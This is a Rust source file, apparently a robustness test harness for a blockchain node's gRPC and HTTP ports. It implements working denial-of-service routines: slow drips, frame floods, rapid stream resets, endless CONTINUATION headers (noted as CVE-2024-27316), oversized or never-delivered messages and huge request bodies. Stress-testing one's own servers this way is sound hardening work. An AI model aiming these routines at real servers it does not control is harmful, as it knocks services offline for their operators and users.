// SPDX-License-Identifier: Apache-2.0
//! What those do who mean no good. An attack ends when the server ends it, or by itself after some seconds.

use super::frames::{
    CONTINUATION, DATA, END_HEADERS, HEADERS, PING, PREFACE, RESET, SETTINGS, call, frame, header,
    hello,
};
use super::network::{Both, Port};
use super::windows::Sender;
use std::pin::Pin;
use std::time::Duration;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::time::{sleep, timeout};

type Stream = Box<dyn Both>;
type Work = Pin<Box<dyn Future<Output = ()> + Send>>;

/// One who means no good.
#[derive(Clone, Copy)]
pub struct Attack {
    /// Whether it speaks TLS where the port does.
    greets: bool,
    run: fn(Stream) -> Work,
}

impl Attack {
    pub async fn at(self, port: &Port) {
        let connect = async { if self.greets { port.connect().await } else { port.plain().await } };
        let Ok(Some(stream)) = timeout(LONG, connect).await else { return };
        let _ = timeout(LONG, (self.run)(stream)).await;
    }
}

const LONG: Duration = Duration::from_secs(15);
/// Between two bursts of one connection: a machine that has nothing left to compute with is not what is asked
/// here.
const BREATH: Duration = Duration::from_millis(20);

const fn raw(run: fn(Stream) -> Work) -> Attack {
    Attack { greets: false, run }
}

const fn polite(run: fn(Stream) -> Work) -> Attack {
    Attack { greets: true, run }
}

/// At ports that speak gRPC.
pub const GRPC: &[Attack] = &[
    // Nothing, noise, what looks like TLS, and half a greeting.
    raw(|stream| Box::pin(hold(stream))),
    raw(|stream| Box::pin(flood(stream, b"GET / HTTP/1.1\r\n\r\n\xff\x00", 100))),
    raw(|stream| Box::pin(tls_garbage(stream))),
    polite(|stream| Box::pin(drip(stream, PREFACE))),
    // Frames without end.
    polite(|stream| Box::pin(repeat(stream, frame(PING, 0, 0, &[7; 8]), 50_000))),
    polite(|stream| Box::pin(repeat(stream, frame(SETTINGS, 0, 0, &[0, 4, 0, 1, 0, 0]), 50_000))),
    polite(|stream| Box::pin(streams(stream, 3000, false))),
    polite(|stream| Box::pin(streams(stream, 30_000, true))),
    polite(|stream| Box::pin(endless_headers(stream))),
    polite(|stream| Box::pin(long_headers(stream))),
    // Messages that are too long, that are announced and never come, and that come in part.
    polite(|stream| Box::pin(messages(stream, u32::MAX, 200, 0))),
    polite(|stream| Box::pin(messages(stream, 99 << 20, 900, 0))),
    polite(|stream| Box::pin(messages(stream, 99 << 20, 64, 24 << 20))),
    polite(|stream| Box::pin(messages(stream, 1 << 20, 200, 1 << 19))),
    polite(|stream| Box::pin(wrong_frames(stream))),
];

/// At ports that speak HTTP/1.1.
pub const WEB: &[Attack] = &[
    raw(|stream| Box::pin(hold(stream))),
    raw(|stream| Box::pin(tls_garbage(stream))),
    polite(|stream| Box::pin(flood(stream, b"\x00\xff\x16\x03", 100_000))),
    polite(|stream| Box::pin(drip(stream, b"GET /healthz HTTP/1.1\r\nHost: a\r\n"))),
    polite(|stream| Box::pin(flood(stream, b"GET /healthz HTTP/1.1\r\nHost: a\r\n\r\n", 5000))),
    polite(|stream| Box::pin(flood(stream, b"a: a line of a head without end\r\n", 200_000))),
    polite(|stream| Box::pin(long_body(stream))),
    polite(|stream| Box::pin(chunks(stream))),
];

/// Says something, as far as it is listened to.
pub async fn say(stream: &mut Stream, bytes: &[u8]) -> bool {
    stream.write_all(bytes).await.is_ok() && stream.flush().await.is_ok()
}

pub async fn read_to_end(stream: &mut Stream) {
    let mut buffer = vec![0; 16 << 10];
    while matches!(stream.read(&mut buffer).await, Ok(1..)) {}
}

async fn hold(mut stream: Stream) {
    read_to_end(&mut stream).await;
}

/// The same again and again, and no answer is read.
async fn flood(mut stream: Stream, bytes: impl Into<Vec<u8>>, times: usize) {
    let many = bytes.into().repeat(64);
    for _ in 0..times.div_ceil(64) {
        if !say(&mut stream, &many).await {
            return;
        }
        sleep(BREATH).await;
    }
    hold(stream).await;
}

async fn drip(mut stream: Stream, bytes: &'static [u8]) {
    for byte in bytes {
        if !say(&mut stream, &[*byte]).await {
            return;
        }
        sleep(Duration::from_secs(1)).await;
    }
}

/// A record that announces a hello, and noise in it.
async fn tls_garbage(stream: Stream) {
    let record = [&[0x16, 3, 1, 0x3f, 0xff, 1, 0, 0x3f, 0xfb][..], &[0xa5; 0x3ffb]].concat();
    flood(stream, record, 10).await;
}

async fn repeat(mut stream: Stream, bytes: Vec<u8>, times: usize) {
    if say(&mut stream, &hello()).await {
        flood(stream, bytes, times).await;
    }
}

/// Calls that say nothing, or are taken back at once.
async fn streams(mut stream: Stream, count: u32, reset: bool) {
    if !say(&mut stream, &hello()).await {
        return;
    }
    for number in 0..count {
        let id = number * 2 + 1;
        let path = PATHS[usize::try_from(number).unwrap() % PATHS.len()];
        let mut bytes = frame(HEADERS, END_HEADERS, id, &call(path));
        if reset {
            bytes.extend(frame(RESET, 0, id, &8_u32.to_be_bytes()));
        }
        if !say(&mut stream, &bytes).await {
            return;
        }
        if number % 64 == 0 {
            sleep(BREATH).await;
        }
    }
    hold(stream).await;
}

/// Headers that go on and on (CVE-2024-27316 and its like).
async fn endless_headers(mut stream: Stream) {
    let first = frame(HEADERS, 0, 1, &call(PATHS[0]));
    if !say(&mut stream, &[hello(), first].concat()).await {
        return;
    }
    let more = frame(CONTINUATION, 0, 1, &header("more", &"x".repeat(8000)));
    flood(stream, more, 20_000).await;
}

async fn long_headers(stream: Stream) {
    let headers = [call(PATHS[0]), header("long", &"x".repeat(15_000))].concat();
    let mut bytes = hello();
    for number in 0..200 {
        bytes.extend(frame(HEADERS, END_HEADERS, number * 2 + 1, &headers));
    }
    flood(stream, bytes, 1).await;
}

/// Calls with a message of that length, of which so much is sent, as far as the server takes it.
async fn messages(stream: Stream, length: u32, count: u32, sent: usize) {
    let mut sender = Sender::new(stream);
    if !sender.say(&hello()).await {
        return;
    }
    let ids: Vec<u32> = (0..count).map(|number| number * 2 + 1).collect();
    for id in &ids {
        let path = PATHS[usize::try_from(*id / 2).unwrap() % PATHS.len()];
        let begin = [&[0], &length.to_be_bytes()[..]].concat();
        let headers = frame(HEADERS, END_HEADERS, *id, &call(path));
        if !sender.say(&headers).await || !sender.data(*id, &begin).await {
            return;
        }
    }
    let piece = vec![0xa5; 16 << 10];
    for _ in 0..sent / piece.len() {
        for id in &ids {
            if !sender.data(*id, &piece).await {
                return;
            }
        }
    }
    sender.hold().await;
}

async fn wrong_frames(mut stream: Stream) {
    if !say(&mut stream, &hello()).await {
        return;
    }
    let frames = [
        frame(DATA, 0, 7, b"nobody's"),
        frame(0xfa, 0xff, 3, &[0; 300]),
        frame(HEADERS, END_HEADERS, 2, &[0xff; 40]),
    ];
    flood(stream, frames.concat(), 1000).await;
}

async fn long_body(mut stream: Stream) {
    let head = "POST /participation/v1/channels HTTP/1.1\r\nHost: a\r\n\
        Content-Type: multipart/form-data; boundary=b\r\nContent-Length: 99999999999\r\n\r\n";
    if say(&mut stream, head.as_bytes()).await {
        flood(stream, [b'-'; 1024], 100_000).await;
    }
}

async fn chunks(mut stream: Stream) {
    let head = "PUT /logspec HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n";
    if say(&mut stream, head.as_bytes()).await {
        flood(stream, b"1\r\na\r\n", 200_000).await;
    }
}

/// Calls that wait for what the client says.
const PATHS: [&str; 8] = [
    "/orderer.AtomicBroadcast/Broadcast",
    "/orderer.AtomicBroadcast/Deliver",
    "/protos.Deliver/DeliverFiltered",
    "/protos.Endorser/ProcessProposal",
    "/gateway.Gateway/Endorse",
    "/gateway.Gateway/CommitStatus",
    "/protos.ChaincodeSupport/Register",
    "/gmca.Cluster/Step",
];
